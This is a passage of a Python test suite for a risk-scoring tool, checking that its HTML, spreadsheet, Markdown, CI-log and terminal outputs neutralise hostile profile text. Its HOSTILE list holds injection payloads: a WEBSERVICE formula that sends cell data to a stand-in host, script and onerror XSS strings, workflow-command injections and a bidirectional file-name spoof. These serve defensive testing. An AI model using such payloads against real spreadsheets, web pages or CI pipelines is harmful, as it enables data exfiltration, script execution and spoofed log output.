    path = tmp_path / "p.yaml"
    path.write_text(mini_profile("flag: false\nlevel: low"), encoding="utf-8")
    cset = open_criteria(MINI)
    profile = load_profiles([path], cset)[0]
    evil = dataclasses.replace(
        profile, project=ProjectInfo.model_construct(name=EVIL, country="<script>x</script>")
    )
    html = render_report([evil], cset, ReportSettings((str(path),), TODAY, 2, 0, 0.25))
    assert "<b>&</b>" not in html and "<script>x</script>" not in html
    assert "&lt;b&gt;&amp;&lt;/b&gt;" in html


# --- 9. Profile text is data for every consumer (issue 22, section 1) -------------------------

HOSTILE: dict[str, list[str]] = {
    "formula": [
        '=WEBSERVICE("https://x.example/?"&A1)',
        '+HYPERLINK("https://x.example","click")',
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
    "html": ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">'],
    "markdown": [
        "[click me](https://evil.example/a)",
        "![pixel](https://evil.example/p.png)",
        "@octocat please look",
        "fixes #1",
        "see https://evil.example and www.evil.example",
        "`code` and | pipe",
    ],
    "workflow": [
        "::error file=x.yaml,line=1::fake annotation",
        "text ::add-mask::secret",
        "##[error]fake error",
        "text ##[add-mask]word",
        "%0A::warning::x",
    ],
    "bidi": ["evil\u202egnp.exe", "a\u2066b\u2069c\u200e\u200f\u061c"],
    "newline": ["one\n::error::injected", "two\r\n##[warning]injected", "three\u2028four"],
}
"""Hostile strings of every kind issue 22 names, fed to each consumer's writer."""

ALL_HOSTILE = [s for kind in HOSTILE.values() for s in kind]


def _hostile_report(tmp_path: Path, copies: int = 1) -> Report:
    """A report whose every profile-borne text holds one of the hostile strings (built as a
    scorecard would be outside the loader, which refuses some of them)."""
    path = tmp_path / "p.yaml"
    path.write_text(mini_profile("flag: false\nlevel: low\nrisk: severe"), encoding="utf-8")
    cset = open_criteria(MINI)
    card = evaluate_paths([path], cset, TODAY).scorecards[0]
    cards = []
    for i in range(copies):
        texts = iter(ALL_HOSTILE * 4)
        cards.append(
            card.model_copy(
                update={
                    "project": ALL_HOSTILE[i % len(ALL_HOSTILE)],
                    "path": f"in/p{i}.yaml",
                    "country": next(texts),
                    "as_of": next(texts),
                    "band_reason": next(texts),
                    "criteria": [
                        c.model_copy(
                            update={
                                "explanation": next(texts),
                                "facts": [
                                    f.model_copy(update={"sources": ["s1"], "known": True})
                                    for f in c.facts
                                ],
                            }
                        )
                        for c in card.criteria
                    ],
                    "flags": [
                        f.model_copy(update={"message": next(texts), "evidence": next(texts)})
                        for f in card.flags
                    ],
                    "citations": {"s1": Citation(title=next(texts), url="https://example.org/s1")},
                }
            )
        )
    return make_report(cards, cset)


def _each_hostile_text(tmp_path: Path) -> list[Report]:
    """One report per hostile string, in the project name (the field every writer shows)."""
    base = _hostile_report(tmp_path)
    card = base.scorecards[0]
    return [
        make_report([card.model_copy(update={"project": text})], open_criteria(MINI))
        for text in ALL_HOSTILE
    ]


def test_xlsx_writes_profile_text_as_text_never_a_formula(tmp_path: Path) -> None:
    from riskscore.render import xlsx_format

    reports = [_hostile_report(tmp_path, copies=len(ALL_HOSTILE)), *_each_hostile_text(tmp_path)]
    for report in reports:
        book = openpyxl.load_workbook(io.BytesIO(xlsx_format.render_bytes(report)))
        formulas = [
            f"{sheet.title}!{cell.coordinate}"
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        assert formulas == []  # riskscore writes no formula; profile text never becomes one
        names = {r[1] for r in book["Ranking"].iter_rows(min_row=2, values_only=True)}
        # The text is kept exactly, less control and bidirectional characters.
        assert names == {xlsx_text(c.project) for c in report.scorecards}
        for sheet in book.worksheets:
            for link in sheet._hyperlinks:
                assert link.target == "https://example.org/s1"


def _markdown_html(text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_markdown_keeps_profile_text_inert(tmp_path: Path) -> None:
    for report in [_hostile_report(tmp_path, copies=3), *_each_hostile_text(tmp_path)]:
        text = get_renderer("markdown")(report, RenderOptions())
        html = _markdown_html(text)
        for tag in ("<script", "<img", "<a "):
            assert tag not in html, tag
        for code in re.findall(r"<code>(.*?)</code>", html):  # only riskscore's own ids
            assert re.fullmatch(r"[a-z0-9:/-]+", code), code
        assert not re.search(r"@[A-Za-z0-9]", text)  # no @mention
        assert not re.search(r"#[0-9]", text)  # no issue reference
        assert not re.search(r"(?i)https?://|www\.", text)  # no autolink
        assert not re.search(f"[{BIDI}]", text)
        # No line break or pipe from a value: every row of a table has its header's cells.
        for table in re.findall(r"(?m)(?:^\|.*\n?)+", text):
            cells = {
                len(re.findall(r"(?<!\\)\|", row.replace("\\\\", ""))) for row in table.splitlines()
            }
            assert len(cells) == 1, table
        # The text is still readable: each hostile project name shows as written.
        shown = html.replace("\u200b", "")
        for card in report.scorecards:
            visible = re.sub(r"\s+", " ", card.project.replace("\u2028", " ")).strip()
            visible = re.sub(f"[{BIDI}]", "", visible)
            assert visible.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
                '"', "&quot;"
            ) in re.sub(r"\s+", " ", shown), visible


_COMMAND = re.compile(r"^::(error|warning|notice|group|endgroup)( [^:]*)?::")


def test_github_log_lines_hold_no_workflow_command_from_a_profile(tmp_path: Path) -> None:
    report = _hostile_report(tmp_path, copies=len(ALL_HOSTILE))  # past the caps: plain lines too
    text = get_renderer("github")(report, RenderOptions())
    plain = 0
    for line in text.splitlines():
        assert "##[" not in line, line
        found = _COMMAND.match(line)
        if found:
            assert "::" not in line[found.end() :], line  # the message holds no command
        else:
            plain += 1
            assert "::" not in line and re.match(r"^(error|warning|notice) ", line), line
        assert not re.search(f"[{BIDI}\r]", line)
    assert plain > 10


def test_stderr_holds_no_workflow_command_from_a_profile(tmp_path: Path) -> None:
    """Under GitHub Actions stderr is the job log too: gate lines and error messages quote
    project names and values."""
    path = tmp_path / "p.yaml"
    name = "##[error]fake ::warning::x"
    path.write_text(
        mini_profile("flag: false\nlevel: low").replace("name: Test", f"name: '{name}'"),
        encoding="utf-8",
    )
    code, _, stderr = run(
        "evaluate", str(path), "-c", str(MINI), "-f", "github", "--fail-under", "99"
    )
    assert code == 1 and "riskscore: gate:" in stderr
    bad = tmp_path / "bad.yaml"
    bad.write_text(mini_profile("level: '##[add-mask]x ::error::y'"), encoding="utf-8")
    code, _, stderr2 = run("evaluate", str(bad), "-c", str(MINI))
    assert code == 2 and "is not one of" in stderr2
    for line in (stderr + stderr2).splitlines():
        assert "##[" not in line and "::" not in line, line


def test_junit_and_terminal_drop_bidirectional_controls_and_log_commands(tmp_path: Path) -> None:
    report = _hostile_report(tmp_path, copies=3)
    for fmt in ("junit", "table", "csv"):
        text = get_renderer(fmt)(report, RenderOptions(width=100))
        assert not re.search(f"[{BIDI}]", text), fmt
        if fmt == "table":  # a terminal under GitHub Actions is the job log
            assert "##[" not in text and "::" not in text
    xsd = xmlschema.XMLSchema(ROOT / "tests" / "data" / "junit" / "junit-10.xsd")
    xsd.validate(get_renderer("junit")(report, RenderOptions()))


def test_escapers_handle_every_hostile_kind() -> None:
    for text in ALL_HOSTILE:
        line = md_line(text)
        assert "\n" not in line and "\r" not in line and not re.search(r"(?<!\\)[\[\]<>!`|]", line)
        assert "##[" not in log_line(text) and "::" not in log_line(text)
        data = workflow_data(text)
        assert "##[" not in data and "::" not in data and "\n" not in data
        assert not re.search(f"[{BIDI}]", xlsx_text(text) + log_line(text) + md_line(text))
    assert md_line("a@b [x](y) <i> #2") == "a@\u200bb \\[x\\](y) \\<i\\> #\u200b2"
    assert log_line("x ##[error]y\n::warning::z") == "x ##\u200b[error]y :\u200b:warning:\u200b:z"
    assert workflow_data("100% ::x\n") == "100%25 :\u200b:x%0A"


_HOSTILE_CHARS = st.sampled_from(
    [
        *"=+-@\t\r\n\\`[]()<>!|#:%*_~&/.w ",
        *("://", "www.", "##[", "::", "\u2028", "\x1b"),
        *"\u202e\u2066\u200f\u061c",
    ]
)


@given(st.lists(st.one_of(_HOSTILE_CHARS, st.text(max_size=3)), max_size=30).map("".join))
def test_escapers_hold_for_any_text(text: str) -> None:
    """Fuzz: whatever a profile holds, each escaper's output does nothing in its reader."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).parseInline(md_line(text))[0].children
    kinds = {t.type for t in tokens or []}
    assert not kinds & {"link_open", "image", "html_inline", "code_inline", "softbreak"}, kinds
    content = "".join(t.content for t in tokens or [] if t.type == "text")
    assert not re.search(r"@[A-Za-z0-9]|#[0-9]|://|(?i:www)\.", content)
    for out in (log_line(text), workflow_data(text), terminal(text)):
        assert "##[" not in out and "::" not in out
    assert "\n" not in log_line(text) and "\n" not in md_line(text)
    assert not re.search(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{BIDI}]", xlsx_text(text) + md_line(text))


@given(st.lists(st.one_of(_HOSTILE_CHARS, st.text(max_size=3)), max_size=30).map("".join))
def test_a_quoted_passage_is_escaped_once_and_shown_as_written(text: str) -> None:
    """md_text escapes each markdown character once (a quote's `[...]` reads `\\[...\\]` in
    the source, `[...]` on GitHub) and renders no link, emphasis, code or HTML."""
    from markdown_it import MarkdownIt

    shown = md_text(text)
    written = re.sub(
        r"[\x00-\x1f\x7f-\x9f\u2028\u2029" + BIDI + "]",
        "",
        re.sub("\r\n|[\n\r\x85\u2028\u2029]", " ", text),
    )
    assert re.sub(r"\\(.)", r"\1", shown).replace("\u200b", "") == written.replace("\u200b", "")
    tokens = MarkdownIt("commonmark", {"html": True}).parseInline(shown)[0].children
    kinds = {t.type for t in tokens or []}
    assert not kinds & {"link_open", "image", "html_inline", "code_inline", "em_open"}, kinds
    assert md_text("disclose any contracts [...] *now*") == (
        "disclose any contracts \\[...\\] \\*now\\*"
    )


def test_history_markdown_keeps_profile_text_inert() -> None:
    from riskscore.analysis.history import History
    from riskscore.render.history import render_markdown

    plain = render_markdown(History(project="A", path="p.yaml", criteria="c", steps=[]))
    for text in ALL_HOSTILE:
        heading = render_markdown(History(project=text, path="p.yaml", criteria="c", steps=[]))
        html = _markdown_html(heading)
        assert "<script" not in html and "<img" not in html and "<a " not in html
        assert heading.count("\n") == plain.count("\n")  # no line break from the name
        assert not re.search(r"@[A-Za-z]|#[0-9]", heading)
